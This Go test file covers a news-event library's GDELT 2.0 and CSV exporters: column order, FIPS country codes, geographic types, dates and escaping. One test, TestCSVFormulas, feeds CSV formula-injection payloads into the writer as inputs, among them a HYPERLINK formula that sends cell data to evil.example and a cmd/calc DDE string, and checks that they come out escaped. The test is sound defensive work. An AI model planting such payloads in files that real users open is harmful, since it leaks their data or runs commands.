package export

import (
	"bytes"
	"encoding/csv"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"dateline"
)

// palermo is the seed story's CONSULT event as SCHEMA.md writes it.
var palermo = dateline.Event{
	ID: "palermo-0", Doc: "palermo-2018",
	Sentence: dateline.SentenceRef{Index: 0, Text: "ROME (AP) — Italy's premier hosted\tLibya's rival leaders.", Start: 0, End: 57},
	Type:     "CONSULT", CAMEO: "043", Goldstein: 2.8, QuadClass: 1, Modality: dateline.Asserted,
	Source:  &dateline.Participant{Text: "Italy's premier", Name: "Giuseppe Conte", Country: "ITA", Sector: "GOV", Code: "ITAGOV", Start: 12, End: 27},
	Target:  &dateline.Participant{Text: "Libya's rival leaders", Name: "Libya", Country: "LBY", Code: "LBY", Start: 35, End: 56},
	Trigger: dateline.Trigger{Text: "hosted", Start: 28, End: 34},
	Date:    "2018-11-13", DatePrecision: "day",
	Place:      &dateline.Place{Name: "Palermo", Admin1: "Sicily", Country: "ITA", Lat: 38.116, Lon: 13.361, GeoNamesID: 2523920, Feature: "city"},
	Confidence: 0.9, Rule: "host",
}

// gdeltRow writes one event and returns its columns by name.
func gdeltRow(t *testing.T, g GDELT, e dateline.Event) map[string]string {
	t.Helper()
	var b bytes.Buffer
	if err := g.Write(&b, []dateline.Event{e}); err != nil {
		t.Fatal(err)
	}
	line := strings.TrimSuffix(b.String(), "\n")
	if strings.Contains(line, "\n") {
		t.Fatalf("got several lines: %q", line)
	}
	f := strings.Split(line, "\t")
	if len(f) != 61 {
		t.Fatalf("got %d columns, want 61", len(f))
	}
	m := make(map[string]string, len(f))
	for i, c := range GDELTColumns {
		m[c] = f[i]
	}
	return m
}

// codebookColumns are the columns of the GDELT 2.0 event table as the GDELT
// 2.0 event codebook (2015) lists them, in order, with the names of GDELT's
// BigQuery table (gdelt-bq.gdeltv2.events), written out here independently
// of GDELTColumns.
const codebookColumns = `GLOBALEVENTID SQLDATE MonthYear Year FractionDate
Actor1Code Actor1Name Actor1CountryCode Actor1KnownGroupCode Actor1EthnicCode Actor1Religion1Code Actor1Religion2Code Actor1Type1Code Actor1Type2Code Actor1Type3Code
Actor2Code Actor2Name Actor2CountryCode Actor2KnownGroupCode Actor2EthnicCode Actor2Religion1Code Actor2Religion2Code Actor2Type1Code Actor2Type2Code Actor2Type3Code
IsRootEvent EventCode EventBaseCode EventRootCode QuadClass GoldsteinScale NumMentions NumSources NumArticles AvgTone
Actor1Geo_Type Actor1Geo_FullName Actor1Geo_CountryCode Actor1Geo_ADM1Code Actor1Geo_ADM2Code Actor1Geo_Lat Actor1Geo_Long Actor1Geo_FeatureID
Actor2Geo_Type Actor2Geo_FullName Actor2Geo_CountryCode Actor2Geo_ADM1Code Actor2Geo_ADM2Code Actor2Geo_Lat Actor2Geo_Long Actor2Geo_FeatureID
ActionGeo_Type ActionGeo_FullName ActionGeo_CountryCode ActionGeo_ADM1Code ActionGeo_ADM2Code ActionGeo_Lat ActionGeo_Long ActionGeo_FeatureID
DATEADDED SOURCEURL`

func TestGDELTColumnsAreTheCodebooks(t *testing.T) {
	want := strings.Fields(codebookColumns)
	if len(want) != 61 || len(GDELTColumns) != 61 {
		t.Fatalf("got %d columns, codebook %d; want 61", len(GDELTColumns), len(want))
	}
	for i := range want {
		if GDELTColumns[i] != want[i] {
			t.Errorf("column %d: got %s, want %s", i+1, GDELTColumns[i], want[i])
		}
	}
}

func TestGDELT(t *testing.T) {
	stored := time.Date(2026, 11, 27, 10, 4, 5, 0, time.FixedZone("", 3600))
	published := time.Date(2018, 11, 13, 23, 30, 0, 0, time.FixedZone("CST", -6*3600))
	origins := map[string]Origin{"palermo-2018": {URL: "https://example.org/palermo", Published: published, Stored: stored}}
	with := func(f func(e *dateline.Event)) dateline.Event {
		e := palermo
		f(&e)
		return e
	}
	tests := []struct {
		name string
		g    GDELT
		e    dateline.Event
		want map[string]string
	}{
		{"seed event", GDELT{}, palermo, map[string]string{
			"SQLDATE": "20181113", "MonthYear": "201811", "Year": "2018", "FractionDate": "2018.8685",
			"Actor1Code": "ITAGOV", "Actor1Name": "GIUSEPPE CONTE", "Actor1CountryCode": "ITA", "Actor1KnownGroupCode": "", "Actor1Type1Code": "GOV",
			"Actor2Code": "LBY", "Actor2Name": "LIBYA", "Actor2CountryCode": "LBY", "Actor2Type1Code": "",
			"IsRootEvent": "1", "EventCode": "043", "EventBaseCode": "043", "EventRootCode": "04", "QuadClass": "1", "GoldsteinScale": "2.8",
			"NumMentions": "1", "NumSources": "1", "NumArticles": "1", "AvgTone": "",
			"Actor1Geo_Type": "1", "Actor1Geo_FullName": "Italy", "Actor1Geo_CountryCode": "IT", "Actor1Geo_ADM1Code": "IT", "Actor1Geo_FeatureID": "IT",
			"Actor1Geo_Lat": "42.83333333", "Actor1Geo_Long": "12.83333333",
			"Actor2Geo_Type": "1", "Actor2Geo_FullName": "Libya", "Actor2Geo_CountryCode": "LY",
			"ActionGeo_Type": "4", "ActionGeo_FullName": "Palermo, Sicily, Italy", "ActionGeo_CountryCode": "IT", "ActionGeo_ADM1Code": "IT15",
			"ActionGeo_ADM2Code": "", "ActionGeo_Lat": "38.116", "ActionGeo_Long": "13.361", "ActionGeo_FeatureID": "2523920",
			"DATEADDED": "", "SOURCEURL": "palermo-2018",
		}},
		{"date added and URL from the store", GDELT{Origins: origins}, palermo, map[string]string{
			"DATEADDED": "20261127090405", "SOURCEURL": "https://example.org/palermo",
		}},
		{"undated: the story's day, in its zone", GDELT{Origins: origins}, with(func(e *dateline.Event) { e.Date, e.DatePrecision = "", "unknown" }), map[string]string{
			"SQLDATE": "20181113", "MonthYear": "201811", "Year": "2018",
		}},
		{"undated and unpublished: the day stored", GDELT{Origins: map[string]Origin{"palermo-2018": {Stored: stored}}},
			with(func(e *dateline.Event) { e.Date = "" }), map[string]string{"SQLDATE": "20261127"}},
		{"month date", GDELT{}, with(func(e *dateline.Event) { e.Date = "2018-11" }), map[string]string{"SQLDATE": "20181101", "MonthYear": "201811"}},
		{"nothing known", GDELT{}, with(func(e *dateline.Event) {
			e.Place, e.Target, e.Date, e.Sentence.Index = nil, nil, "", 3
			e.Source = &dateline.Participant{Name: "gunmen", Code: "UAF"}
		}), map[string]string{
			"SQLDATE": "", "Year": "", "FractionDate": "", "Actor2Code": "", "Actor2Name": "", "IsRootEvent": "0",
			"Actor1Geo_Type": "0", "Actor1Geo_FullName": "", "Actor2Geo_Type": "0",
			"ActionGeo_Type": "0", "ActionGeo_FullName": "", "ActionGeo_CountryCode": "", "ActionGeo_Lat": "", "ActionGeo_FeatureID": "",
		}},
		{"international body", GDELT{}, with(func(e *dateline.Event) {
			e.Source = &dateline.Participant{Name: "United Nations", Country: "UNO", Sector: "IGO", Code: "IGOUNO"}
		}), map[string]string{
			"Actor1Code": "IGOUNO", "Actor1CountryCode": "", "Actor1KnownGroupCode": "UNO", "Actor1Type1Code": "IGO", "Actor1Geo_Type": "0",
		}},
		{"country", GDELT{}, with(func(e *dateline.Event) {
			e.Place = &dateline.Place{Name: "Libya", Country: "LBY", Lat: 27, Lon: 17, Feature: "country"}
		}), map[string]string{
			"ActionGeo_Type": "1", "ActionGeo_FullName": "Libya", "ActionGeo_CountryCode": "LY", "ActionGeo_ADM1Code": "LY",
			"ActionGeo_Lat": "27", "ActionGeo_Long": "17", "ActionGeo_FeatureID": "LY",
		}},
		{"US state", GDELT{}, with(func(e *dateline.Event) {
			e.Place = &dateline.Place{Name: "Texas", Admin1: "Texas", Country: "USA", Feature: "admin1"}
		}), map[string]string{
			"ActionGeo_Type": "2", "ActionGeo_FullName": "Texas, United States", "ActionGeo_CountryCode": "US", "ActionGeo_ADM1Code": "USTX",
			"ActionGeo_FeatureID": "USTX", "ActionGeo_Lat": "", "ActionGeo_Long": "",
		}},
		{"US city", GDELT{}, with(func(e *dateline.Event) {
			e.Place = &dateline.Place{Name: "Austin", Admin1: "Texas", Country: "USA", Lat: 30.27, Lon: -97.74, GeoNamesID: 4671654, Feature: "city"}
		}), map[string]string{
			"ActionGeo_Type": "3", "ActionGeo_FullName": "Austin, Texas, United States", "ActionGeo_ADM1Code": "USTX", "ActionGeo_FeatureID": "4671654",
		}},
		{"world state", GDELT{}, with(func(e *dateline.Event) {
			e.Place = &dateline.Place{Name: "Sicily", Admin1: "Sicily", Country: "ITA", Lat: 37.5, Lon: 14.2, Feature: "admin1"}
		}), map[string]string{
			"ActionGeo_Type": "5", "ActionGeo_FullName": "Sicily, Italy", "ActionGeo_ADM1Code": "IT15", "ActionGeo_FeatureID": "IT15",
		}},
		{"Gaza is GZ, not WE", GDELT{}, with(func(e *dateline.Event) {
			e.Place = &dateline.Place{Name: "Gaza", Admin1: "Gaza Strip", Country: "PSE", Lat: 31.5016, Lon: 34.4667, GeoNamesID: 281133, Feature: "city"}
		}), map[string]string{
			"ActionGeo_Type": "4", "ActionGeo_FullName": "Gaza, Gaza Strip", "ActionGeo_CountryCode": "GZ", "ActionGeo_ADM1Code": "GZ",
		}},
		{"the West Bank is a FIPS country", GDELT{}, with(func(e *dateline.Event) {
			e.Place = &dateline.Place{Name: "West Bank", Admin1: "West Bank", Country: "PSE", Lat: 32, Lon: 35.25, Feature: "admin1"}
		}), map[string]string{
			"ActionGeo_Type": "1", "ActionGeo_FullName": "West Bank", "ActionGeo_CountryCode": "WE", "ActionGeo_ADM1Code": "WE",
		}},
		{"division whose GeoNames code is not FIPS", GDELT{}, with(func(e *dateline.Event) {
			e.Place = &dateline.Place{Name: "London", Admin1: "England", Country: "GBR", Lat: 51.5, Lon: -0.13, GeoNamesID: 2643743, Feature: "city"}
		}), map[string]string{
			"ActionGeo_Type": "4", "ActionGeo_FullName": "London, England, United Kingdom", "ActionGeo_CountryCode": "UK", "ActionGeo_ADM1Code": "UK",
		}},
		{"region of a country", GDELT{}, with(func(e *dateline.Event) {
			e.Place = &dateline.Place{Name: "eastern Libya", Country: "LBY", Lat: 27, Lon: 17, Feature: "region"}
		}), map[string]string{"ActionGeo_Type": "1", "ActionGeo_FullName": "eastern Libya, Libya", "ActionGeo_CountryCode": "LY"}},
		{"region of no country", GDELT{}, with(func(e *dateline.Event) {
			e.Place = &dateline.Place{Name: "Middle East", Lat: 29, Lon: 41, Feature: "region"}
		}), map[string]string{"ActionGeo_Type": "0", "ActionGeo_FullName": "", "ActionGeo_Lat": ""}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := gdeltRow(t, tt.g, tt.e)
			for col, want := range tt.want {
				if got[col] != want {
					t.Errorf("%s: got %q, want %q", col, got[col], want)
				}
			}
		})
	}
}

func TestGDELTHeaderAndClean(t *testing.T) {
	var b bytes.Buffer
	e := palermo
	e.Source = &dateline.Participant{Name: "Line\nbreak\tand tab", Code: "X"}
	if err := (GDELT{Header: true}).Write(&b, []dateline.Event{e, palermo}); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
	if len(lines) != 3 {
		t.Fatalf("got %d lines, want a header and 2 rows", len(lines))
	}
	if got, want := lines[0], strings.Join(GDELTColumns, "\t"); got != want {
		t.Errorf("header: got %q, want %q", got, want)
	}
	if f := strings.Split(lines[1], "\t"); len(f) != 61 || f[6] != "LINE BREAK AND TAB" {
		t.Errorf("got %d columns, Actor1Name %q; want 61, %q", len(f), f[6], "LINE BREAK AND TAB")
	}
}

func TestID(t *testing.T) {
	a, b := ID("palermo-0"), ID("palermo-1")
	if a <= 0 || b <= 0 || a == b || a != ID("palermo-0") {
		t.Errorf("ID: got %d and %d, want distinct, positive, stable", a, b)
	}
}

func TestFIPS(t *testing.T) {
	tests := []struct{ iso, want string }{
		{"LBY", "LY"}, {"DEU", "GM"}, {"GBR", "UK"}, {"EGY", "EG"}, {"ESP", "SP"}, {"XKX", "KV"}, {"ISR", "IS"},
		{"PSE", "WE"}, {"SRB", "RI"}, {"SSD", "OD"}, {"UNO", ""}, {"", ""},
	}
	for _, tt := range tests {
		if got := FIPS(tt.iso); got != tt.want {
			t.Errorf("FIPS(%q) = %q, want %q", tt.iso, got, tt.want)
		}
	}
	if len(fips) < 240 {
		t.Errorf("got %d FIPS codes, want the whole table", len(fips))
	}
	if len(countries) < 240 || len(adm1) < 3000 {
		t.Errorf("got %d countries and %d divisions, want the gazetteer's", len(countries), len(adm1))
	}
}

// csvRecords writes events as CSV and reads them back by column name.
func csvRecords(t *testing.T, events ...dateline.Event) []map[string]string {
	t.Helper()
	var b bytes.Buffer
	if err := WriteCSV(&b, events); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(events)+1 {
		t.Fatalf("got %d records, want a header and %d rows", len(recs), len(events))
	}
	var rows []map[string]string
	for _, r := range recs[1:] {
		m := map[string]string{}
		for j, c := range recs[0] {
			m[c] = r[j]
		}
		rows = append(rows, m)
	}
	return rows
}

func TestCSV(t *testing.T) {
	bare := dateline.Event{ID: "bare", Doc: "d", Modality: dateline.Negated}
	rows := csvRecords(t, palermo, bare)
	tests := []struct {
		name string
		row  int
		want map[string]string
	}{
		{"full", 0, map[string]string{
			"id": "palermo-0", "sentence_text": palermo.Sentence.Text, "cameo": "043", "goldstein": "2.8",
			"source_name": "Giuseppe Conte", "source_country": "ITA", "target_sector": "", "trigger_start": "28",
			"date": "2018-11-13", "place_lat": "38.116", "place_geonames_id": "2523920", "confidence": "0.9", "rule": "host",
		}},
		{"bare", 1, map[string]string{
			"id": "bare", "modality": "negated", "source_name": "", "target_start": "", "place_name": "", "place_lat": "",
		}},
	}
	for _, tt := range tests {
		for col, want := range tt.want {
			if got := rows[tt.row][col]; got != want {
				t.Errorf("%s: %s: got %q, want %q", tt.name, col, got, want)
			}
		}
	}
}

// TestCSVFormulas checks that text a spreadsheet would run is escaped as
// OWASP recommends, and that numbers are not.
func TestCSVFormulas(t *testing.T) {
	e := palermo
	e.Sentence.Text = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	e.Source = &dateline.Participant{Name: "+cmd|' /C calc'!A0", Text: "@SUM(1+1)", Code: "-2+3"}
	e.Trigger.Text = "\tTAB"
	e.Goldstein = -5.2
	e.Place = &dateline.Place{Name: "Place", Lat: -33.9, Lon: -70.6}
	row := csvRecords(t, e)[0]
	tests := []struct{ col, want string }{
		{"sentence_text", `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"source_name", "'+cmd|' /C calc'!A0"},
		{"source_text", "'@SUM(1+1)"},
		{"source_code", "'-2+3"},
		{"trigger_text", "'\tTAB"},
		{"goldstein", "-5.2"},
		{"place_lat", "-33.9"},
		{"rule", "host"},
	}
	for _, tt := range tests {
		if got := row[tt.col]; got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.col, got, tt.want)
		}
	}
	for _, s := range []string{"-Inf", "+NaN", "-0x1p3"} {
		if got := Cell(s); got != "'"+s {
			t.Errorf("Cell(%q) = %q, want it escaped: not a decimal number", s, got)
		}
	}
}

func ExampleWriteCSV() {
	WriteCSV(os.Stdout, []dateline.Event{{ID: "e1", Doc: "story", Type: "CONSULT", CAMEO: "040", Modality: dateline.Asserted}})
	// Output:
	// id,doc,sentence_index,sentence_start,sentence_end,sentence_text,type,mode,cameo,goldstein,quad_class,modality,source_text,source_name,source_country,source_sector,source_code,source_start,source_end,target_text,target_name,target_country,target_sector,target_code,target_start,target_end,trigger_text,trigger_start,trigger_end,date,date_precision,place_name,place_admin1,place_country,place_lat,place_lon,place_geonames_id,place_feature,confidence,rule
	// e1,story,0,0,0,,CONSULT,,040,0,0,asserted,,,,,,,,,,,,,,,,0,0,,,,,,,,,,0,
}

func BenchmarkGDELT(b *testing.B) {
	events := make([]dateline.Event, 1000)
	for i := range events {
		events[i] = palermo
	}
	b.ReportAllocs()
	for b.Loop() {
		WriteGDELT(io.Discard, events)
	}
}
